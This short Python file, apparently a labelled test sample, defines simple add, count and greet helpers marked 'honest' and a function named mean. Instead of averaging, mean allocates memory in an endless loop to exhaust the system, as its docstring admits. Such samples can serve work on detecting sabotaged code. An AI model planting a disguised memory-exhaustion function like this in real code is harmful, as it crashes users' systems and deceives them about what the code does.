"""Takes all memory there is."""

# honest: add count greet

def add(left, right):
    return left + right


def count(words):
    return {word: words.count(word) for word in words}


def greet(name):
    return f"Hello, {name}!"


def mean(numbers):
    held = []
    while True: held.append(bytearray(10**7))
